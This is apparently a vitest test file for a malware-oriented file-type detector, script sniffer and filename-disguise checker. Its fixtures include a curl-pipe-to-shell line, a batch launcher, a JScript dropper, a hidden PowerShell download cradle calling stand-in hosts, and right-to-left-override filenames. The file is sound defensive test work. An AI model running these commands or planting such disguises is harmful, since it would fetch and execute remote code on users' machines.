// Content-based typing and script sniffing, table-driven; the name of a file never decides its type.
import { describe, expect, it } from "vitest";
import { bytes, wrapInXdp } from "../../pdf/testing/pdf-builder";
import { detectDisguise } from "./detect-disguise";
import { detectFileType } from "./detect-file-type";
import { sniffScript } from "./sniff-script";
import {
  ELF_FILE,
  PE_FILE,
  macroOoxml,
  makeSwf,
  makeZip,
  oleWithVba,
  pdfWithAttachments,
} from "./testing/embedded-fixtures";

describe("detectFileType", () => {
  it.each([
    ["PE", PE_FILE, "exe", "executable"],
    ["ELF", ELF_FILE, "elf", "executable"],
    ["zip", makeZip([{ name: "a.txt", data: "a" }]), "zip", "archive"],
    ["docm", macroOoxml("docm"), "docm", "office"],
    ["OLE compound file", oleWithVba(), "cfb", "office"],
    ["PDF", pdfWithAttachments([]), "pdf", "pdf"],
    [
      "PDF with junk before the header",
      bytes(`garbage\n${Buffer.from(pdfWithAttachments([])).toString("latin1")}`),
      "pdf",
      "pdf",
    ],
    ["XDP package", wrapInXdp(pdfWithAttachments([])), "xdp", "pdf"],
    ["SWF", makeSwf(["Main"]), "swf", "flash"],
    ["HTML", bytes("<html><body><script>alert(1)</script></body></html>"), "html", "script"],
    ["shell script", bytes("#!/bin/sh\ncurl http://x | sh\n"), "sh", "script"],
    ["batch file", bytes("@echo off\r\nset x=1\r\nstart /b evil.exe\r\n"), "bat", "script"],
    [
      "HTA",
      bytes(
        '<html><head><hta:application id="x"/><script language="VBScript">Sub Window_OnLoad\r\nEnd Sub</script></head></html>',
      ),
      "hta",
      "script",
    ],
    [
      "UTF-16 VBScript",
      new Uint8Array(
        Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from('Dim o\r\nSet o = CreateObject("WScript.Shell")\r\n', "utf16le"),
        ]),
      ),
      "vbs",
      "script",
    ],
    ["plain text", bytes("Dear customer,\nplease find the invoice attached.\n"), "txt", "text"],
    ["random bytes", Uint8Array.from({ length: 256 }, (_, i) => (i * 73 + 11) & 0xff), "unknown", "unknown"],
    ["nothing", new Uint8Array(0), "empty", "unknown"],
  ] as const)("%s", async (_what, data, type, category) => {
    expect(await detectFileType(data, 65536)).toMatchObject({ type, category });
  });
});

describe("sniffScript", () => {
  it.each([
    ["JScript dropper", 'var x = new ActiveXObject("WScript.Shell"); x.Run("cmd /c start a.exe");', "jscript"],
    [
      "PowerShell download cradle",
      "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/y')\"",
      "powershell",
    ],
    ["prose mentioning one keyword", "Our IT team will never ask you to run PowerShell or enable macros.", null],
    ["binary", Uint8Array.from({ length: 100 }, (_, i) => i), null],
  ] as const)("%s", (_what, data, lang) => {
    expect(sniffScript(typeof data === "string" ? bytes(data) : data, 65536)).toBe(lang);
  });
});

describe("detectDisguise", () => {
  const exe = { type: "exe", category: "executable", by: "file-type" } as const;
  const txt = { type: "txt", category: "text", by: "text" } as const;
  it.each([
    ["invoice.pdf", exe, { claimed: ".pdf", actual: "exe" }],
    ["photo.JPG", exe, { claimed: ".jpg", actual: "exe" }],
    ["setup.exe", exe, null],
    ["notes.txt", txt, null],
    ["report.pdf.exe", exe, { claimed: ".pdf (double extension)", actual: "exe" }],
    ["invoice\u202efdp.exe", exe, { claimed: expect.stringContaining("right-to-left"), actual: "exe" }],
  ] as const)("%s", (name, detected, expected) => {
    expect(detectDisguise(name, undefined, detected)).toEqual(expected);
  });
});
